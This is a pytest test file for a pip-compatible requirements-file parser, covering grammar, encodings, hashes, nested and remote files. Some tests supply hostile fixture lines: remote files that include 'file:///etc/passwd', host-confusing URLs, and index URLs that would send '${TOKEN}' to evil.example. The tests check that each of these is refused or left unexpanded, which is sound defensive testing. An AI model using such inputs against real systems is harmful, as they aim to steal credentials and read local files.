"""Requirements files, their whole grammar: compared with the real pip."""

from __future__ import annotations

import codecs
import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bootstrap.config.load import expand
from bootstrap.config.model import Config
from bootstrap.errors import BootstrapError, UsageError
from bootstrap.index.settings import PRE
from tests.unit.config.pips import Pip
from tests.unit.config.users import User, named

_DIGEST = "a" * 64
_OTHER_DIGEST = "B" * 64

_CASES: Mapping[str, str | bytes] = {
    "plain": "requests\nflask >= 2 , < 3\n",
    "comments": "# first\nrequests # why\nflask # no #comment\n   # indented\n",
    "a comment that ends in a backslash": "# first \\\nrequests\n",
    "continuations": "requests \\\n  >=2 \\\n  ,<3\nflask\n",
    "a continuation that a comment ends": "requests \\\n# comment\nflask\n",
    "a continuation at the end": "requests \\\n",
    "windows line ends": b"requests\r\nflask\r\n",
    "blank lines": "\n\n  \nrequests\n\n",
    "markers": 'requests ; python_version < "3"\nflask;sys_platform=="linux"\n',
    "extras": "requests[socks,security]>=2\n",
    "hashes": f"requests==2.0 --hash=sha256:{_DIGEST} --hash sha512:{_DIGEST}{_DIGEST}\n",
    "hashes on continued lines": f"requests==2.0 \\\n    --hash=sha256:{_DIGEST} \\\n"
    f"    --hash=sha256:{_OTHER_DIGEST}\n",
    "a URL": "https://host.example/thing-1.0-py3-none-any.whl\n",
    "a named URL": "thing @ https://host.example/thing-1.0-py3-none-any.whl\n",
    "variables": "requests${SPEC}\n-i https://${TOKEN}@index.example/\n",
    "variables of other spellings": "requests # $SPEC ${spec}\n-i https://host.example/$SPEC\n",
    "an index": "-i https://one.example/\n--index-url=https://two.example/\nrequests\n",
    "more indexes": "--extra-index-url https://x.example\n--extra-index-url=https://y.example\n",
    "no index": "--no-index\n-i https://one.example\n--extra-index-url https://x.example\n",
    "find-links": "-f ./wheels\n--find-links https://links.example/\n-f /elsewhere\n",
    "formats": "--only-binary Foo_Bar,baz\n--no-binary :all:\n--only-binary=qux\n",
    "choices": "--pre\n--prefer-binary\n",
    "several options on a line": "--pre --prefer-binary -f https://links.example/\n",
    "a nested file": "-r nested/more.txt\nrequests\n",
    "a nested file that names its neighbour": "--requirement=nested/outer.txt\n",
    "nested constraints": "-c nested/limits.txt\nrequests\n",
    "utf-8": "requests # grüß\n",
    "utf-8 with a mark": codecs.BOM_UTF8 + b"requests\n",
    "utf-16": codecs.BOM_UTF16_LE + "requests\nflask\n".encode("utf-16-le"),
    "utf-16, the other end": codecs.BOM_UTF16_BE + "requests\n".encode("utf-16-be"),
    "utf-32": codecs.BOM_UTF32_BE + "requests\n".encode("utf-32-be"),
    "a coding line": b"# -*- coding: latin-1 -*-\nrequests # \xfc\n",
    "a coding line in the second line": b"\n# coding=latin-1\nrequests # \xfc\n",
    "an unknown option": "--frobnicate\n",
    "an option that needs a value": "-i\n",
    "an unclosed quotation": "-i 'https://one.example\n",
    "a weak hash": "requests==2 --hash=md5:0123\n",
    "a hash without its algorithm": f"requests==2 --hash={_DIGEST}\n",
    "a file that includes itself": "-r requirements.txt\n",
    "files that include each other": "-r nested/loop.txt\n",
    "a missing nested file": "-r missing.txt\n",
}


def _ours(config: Config) -> dict[str, Any]:
    requirements = [(each, False) for each in named(config)]
    constraints = [(each, True) for each in config.request.constraints]
    return {
        "requirements": sorted(
            [
                each.text,
                each.editable,
                limits,
                {name: sorted(found) for name, found in each.hashes.allowed.items()},
            ]
            for each, limits in [*requirements, *constraints]
        ),
        "index": [each.value for each in config.index.index_urls],
        "find_links": [each.value for each in config.index.find_links],
        "pre": config.request.releases == PRE,
        "prefer_binary": config.index.prefer_binary,
        "only_binary": sorted(config.index.formats.only_binary),
        "no_binary": sorted(config.index.formats.no_binary),
    }


def _by_design(theirs: dict[str, Any], user: User) -> dict[str, Any]:
    """Put absolute paths, and digests in lower case, for what pip keeps as it was written."""
    return {
        **theirs,
        "requirements": sorted(
            [
                text.strip(),
                editable,
                limits,
                {n: sorted(map(str.lower, d)) for n, d in hashes.items()},
            ]
            for text, editable, limits, hashes in theirs["requirements"]
        ),
        "find_links": [
            link if "://" in link else str(user.cwd / link) for link in theirs["find_links"]
        ],
        "pre": bool(theirs["pre"]),
        "prefer_binary": bool(theirs["prefer_binary"]),
    }


@pytest.fixture
def included_files(user: User) -> User:
    """Lay out what the files of the table include."""
    user.write("nested/more.txt", "flask\nclick\n")
    user.write("nested/outer.txt", "-r inner/deep.txt\nouter\n")
    user.write("nested/inner/deep.txt", "-r ../more.txt\n-c ../limits.txt\ndeep\n")
    user.write("nested/limits.txt", "urllib3<2\n")
    user.write("nested/loop.txt", "-r ../requirements.txt\n")
    (user.cwd / "wheels").mkdir()
    return user


@pytest.mark.parametrize("case", _CASES)
def test_a_file_is_read_as_pip_reads_it(included_files: User, pip: Pip, case: str) -> None:
    user = included_files
    user.write("requirements.txt", _CASES[case])
    environ = {**user.variables, "SPEC": ">=2", "TOKEN": "secret", "spec": "no"}
    theirs = pip.parse(file="requirements.txt", cwd=str(user.cwd), environ=environ)

    try:
        config = replace(user, default_index=lambda: "https://default.example").load(
            *("-r", "requirements.txt", "--installer", "none", "--no-require-hashes"),
            SPEC=">=2",
            TOKEN="secret",
            spec="no",
        )
    except BootstrapError:
        assert "error" in theirs
    else:
        assert _ours(config) == _by_design(theirs, user)


def test_an_error_names_the_file_and_the_line(user: User) -> None:
    file = user.write("requirements.txt", "requests\n\nflask \\\n  ==\n")
    with pytest.raises(BootstrapError, match=re.escape(f"{file}, line 3")):
        user.load("-r", "requirements.txt")


def test_each_requirement_knows_its_file_and_line(user: User) -> None:
    file = user.write("requirements.txt", "# comment\nrequests\n")
    [requests] = named(user.load("-r", "requirements.txt"))
    assert str(requests.origin) == f"{file}, line 2"


def test_utf_32_is_not_read_as_utf_16_unlike_in_older_pips(user: User) -> None:
    user.write("requirements.txt", codecs.BOM_UTF32_LE + "requests\n".encode("utf-32-le"))
    assert [each.text for each in named(user.load("-r", "requirements.txt"))] == ["requests"]


def test_a_variable_that_is_not_set_is_kept_and_its_line_reported(user: User) -> None:
    file = user.write("requirements.txt", "requests\n${UNSET}\n")
    with pytest.raises(BootstrapError, match=f"UNSET.*{re.escape(str(file))}, line 2"):
        user.load("-r", "requirements.txt")


def test_a_file_that_is_not_utf_8_is_decoded_by_the_locale(
    user: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("locale.getpreferredencoding", lambda _set_locale: "latin-1")
    user.write("requirements.txt", b"requests # \xfc\n")
    assert [each.text for each in named(user.load("-r", "requirements.txt"))] == ["requests"]


def test_a_file_that_cannot_be_decoded_is_refused_with_a_hint(
    user: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("locale.getpreferredencoding", lambda _set_locale: "utf-8")
    file = user.write("requirements.txt", b"requests # \xfc\n")
    with pytest.raises(BootstrapError, match=re.escape(str(file))) as caught:
        user.load("-r", "requirements.txt")
    assert "coding" in (caught.value.hint or "")


def test_the_message_for_a_missing_file_names_its_origin(user: User) -> None:
    with pytest.raises(BootstrapError, match=r"missing\.txt.*from PIP_REQUIREM"):
        user.load(PIP_REQUIREMENT="missing.txt")


@pytest.mark.parametrize(
    "line",
    [
        "requests --pre",
        "requests --index-url https://one.example",
        f"requests --hash=sha256:{_DIGEST} stray",
        f"--hash=sha256:{_DIGEST}",
        "--config-settings a=b",
        "--global-option=x",
        "requests --install-option=x",
        "-e ./one -e ./two",
    ],
)
def test_options_that_pip_would_ignore_on_a_line_are_refused(user: User, line: str) -> None:
    file = user.write("requirements.txt", f"flask\n{line}\n")
    with pytest.raises(BootstrapError, match=re.escape(f"{file}, line 2")):
        user.load("-r", "requirements.txt")


@pytest.mark.parametrize("line", ["requests[socks]", "-e ./project", "./project"])
def test_a_constraint_has_a_name_and_no_extras(user: User, line: str) -> None:
    user.write("project/pyproject.toml", "")
    user.write("limits.txt", f"{line}\n")
    with pytest.raises(BootstrapError, match=r"limits\.txt, line 1.*is not a valid constraint"):
        user.load("-c", "limits.txt")


def test_one_hash_requires_all_hashes(user: User) -> None:
    user.write("requirements.txt", f"requests==2 --hash=sha256:{_DIGEST}\n")
    assert user.load("-r", "requirements.txt").request.require_hashes
    assert not user.load("-r", "requirements.txt", "--no-require-hashes").request.require_hashes


def test_a_hash_in_a_url_is_checked_but_requires_no_others(user: User) -> None:
    url = f"https://host.example/thing-1.0-py3-none-any.whl#sha256={_DIGEST}"
    config = user.load(url)
    assert named(config)[0].hashes.allowed == {"sha256": frozenset({_DIGEST})}
    assert not config.request.require_hashes


@pytest.mark.parametrize(
    "line",
    [
        "requests==2 --hash=sha256:/home/me/file",
        "requests==2 --hash=sha256:00",
        f"requests==2 --hash=sha512:{_DIGEST}",
        "requests @ https://host.example/requests-2-py3-none-any.whl#sha256=/home/me/file",
        "https://host.example/requests-2.tar.gz#subdirectory=x&sha256=zz",
    ],
)
def test_an_invalid_hash_is_refused_with_the_line_that_has_it(user: User, line: str) -> None:
    file = user.write("requirements.txt", f"flask\n{line}\n")
    with pytest.raises(UsageError) as caught:
        user.load("-r", "requirements.txt")
    assert f"{file}, line 2" in str(caught.value)
    assert "expected " in str(caught.value)
    assert "hexadecimal digits" in str(caught.value)


def test_config_settings_of_a_line_belong_to_its_requirement(user: User) -> None:
    user.write("requirements.txt", "one -C a=1 --config-settings=b=2 -C a=3\ntwo\n")
    one, two = named(user.load("-r", "requirements.txt"))
    assert one.config_settings == {"a": ("1", "3"), "b": "2"}
    assert not two.config_settings


def test_a_file_may_contain_trusted_hosts_and_features(user: User) -> None:
    user.write("requirements.txt", "--trusted-host a.example\n--use-feature fancy\n")
    config = user.load("-r", "requirements.txt")
    assert [each.value for each in config.trust.trusted_hosts] == ["a.example"]
    assert any("fancy" in notice for notice in config.warnings)


_LOCK = """
lock-version = "1.0"
created-by = "tests"
extras = ["fast"]
packages = []
"""


def test_a_lock_is_read_and_does_not_add_the_default_installer(user: User) -> None:
    file = user.write("pylock.dev.toml", _LOCK)
    config = user.load("-r", "pylock.dev.toml[Fast]")
    assert [(each.location.value, each.selection.extras) for each in config.locks] == [
        (str(file), frozenset({"fast"}))
    ]
    assert config.request.requirements == ()
    handed_off = user.load("-r", "pylock.dev.toml", "--", "list")
    assert [each.text for each in handed_off.request.requirements] == ["pip"]


def test_a_lock_on_the_network_is_read_by_expand(user: User) -> None:
    config = user.load("-r", "https://locks.example/pylock.toml")
    assert not config.locks
    complete = expand(config, {"https://locks.example/pylock.toml": _LOCK}.__getitem__)
    assert [each.location.value for each in complete.locks] == ["https://locks.example/pylock.toml"]
    assert complete.request.requirements == ()


def test_a_lock_is_not_a_constraints_file(user: User) -> None:
    user.write("pylock.toml", _LOCK)
    with pytest.raises(BootstrapError, match="a lock cannot be used as a file of constraints"):
        user.load("-c", "pylock.toml")


def test_files_on_the_network_are_read_by_expand(user: User) -> None:
    user.write("requirements.txt", "one\n-r https://user:secret@host.example/a/more.txt\n")
    config = user.load("-r", "requirements.txt")
    assert [each.text for each in named(config)] == ["one"]
    [remote] = config.remote_files

    pages = {
        "https://user:secret@host.example/a/more.txt": "two\n-r ../b/most.txt\n"
        "-c limits.txt\n--trusted-host evil.example\n-i https://index.example\n",
        "https://user:secret@host.example/b/most.txt": "three\npip<21\n",
        "https://user:secret@host.example/a/limits.txt": "urllib3<2\n",
    }
    complete = expand(config, pages.__getitem__)

    assert remote.location.value in pages
    assert not complete.remote_files
    assert [each.text for each in complete.request.requirements] == [
        "one",
        "two",
        "three",
        "pip<21",
    ]
    assert [each.text for each in complete.request.constraints] == ["urllib3<2"]
    assert [each.value for each in complete.index.index_urls] == ["https://index.example"]
    assert complete.trust == config.trust
    assert any("evil.example" in notice for notice in complete.warnings)
    assert "secret" not in repr([each.origin for each in named(complete)])


def test_a_file_on_the_network_that_includes_itself_is_refused(user: User) -> None:
    config = user.load("-r", "https://host.example/a.txt")
    with pytest.raises(BootstrapError, match="includes itself"):
        expand(config, lambda _url: "-r a.txt")


@pytest.mark.parametrize("option", ["-r", "-c"])
@pytest.mark.parametrize("name", ["file:///etc/passwd", "file://localhost/x", "FILE:/x", "C:\\x"])
def test_a_file_from_the_network_cannot_include_a_local_file(
    user: User, option: str, name: str
) -> None:
    config = user.load("-r", "https://host.example/a.txt")
    with pytest.raises(UsageError, match=r"cannot include .*, a file of this machine"):
        expand(config, lambda _url: f"{option} {name}")


@pytest.mark.parametrize(
    "line",
    [
        "-i https://evil:81\\[idx.corp]:443/",
        "-f https://idx.corp\\\\@evil/",
        "-r https://evil:81\\[idx.corp]:443/x.txt",
        "demo @ https://evil:81\\[idx.corp]:443/demo-1.0.zip",
        "https://evil\\@idx.corp/demo-1.0-py3-none-any.whl",
        "git+https://evil\\@idx.corp/demo#egg=demo",
    ],
)
def test_a_url_that_programs_read_differently_is_refused(user: User, line: str) -> None:
    user.write("requirements.txt", f"{line}\n")
    with pytest.raises(UsageError, match="is not a usable URL"):
        user.load("-r", "requirements.txt")


def test_a_file_url_is_a_path(user: User) -> None:
    file = user.write("re quirements.txt", "requests\n")
    assert [each.text for each in named(user.load("-r", file.as_uri()))] == ["requests"]


def test_find_links_are_relative_to_their_file_first(user: User, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "wheels").mkdir(parents=True)
    user.write(elsewhere / "requirements.txt", "-f wheels\n-f nowhere\n")
    found = user.load("-r", str(elsewhere / "requirements.txt")).index.find_links
    assert [each.value for each in found] == [str(elsewhere / "wheels"), str(user.cwd / "nowhere")]


def test_variables_are_not_expanded_in_files_from_the_network(user: User) -> None:
    pages = {
        "https://evil.example/a.txt": "-c limits.txt\n-i https://${TOKEN}@evil.example/${UNSET}\n"
        "x @ https://evil.example/${TOKEN}/x-1-py3-none-any.whl\n-r ${TOKEN}.txt\n",
        "https://evil.example/limits.txt": "y @ https://evil.example/${TOKEN}.tar.gz\n",
        "https://evil.example/${TOKEN}.txt": "z\n",
    }
    config = user.load("-r", "https://evil.example/a.txt", TOKEN="s3cret")
    complete = expand(config, pages.__getitem__)
    assert [each.value for each in complete.index.index_urls] == [
        "https://${TOKEN}@evil.example/${UNSET}"
    ]
    assert [each.url for each in named(complete)] == [
        "https://evil.example/${TOKEN}/x-1-py3-none-any.whl",
        None,
    ]
    assert [each.url for each in complete.request.constraints] == [
        "https://evil.example/${TOKEN}.tar.gz"
    ]
    assert complete.warnings[0] == (
        "https://evil.example/limits.txt, line 1: ${TOKEN} is not replaced by the variable, "
        "because the file itself comes from the network."
    )
    assert len(complete.warnings) == 4


def test_a_users_file_may_name_a_file_on_the_network_by_a_variable(user: User) -> None:
    user.write("requirements.txt", "-r https://${HOST}/more.txt\n-i https://${TOKEN}@own.example\n")
    config = user.load("-r", "requirements.txt", HOST="own.example", TOKEN="s3cret")
    complete = expand(config, {"https://own.example/more.txt": "more\n"}.__getitem__)
    assert [each.text for each in named(complete)] == ["more"]
    assert [each.value for each in complete.index.index_urls] == ["https://s3cret@own.example"]
    assert complete.warnings == ()
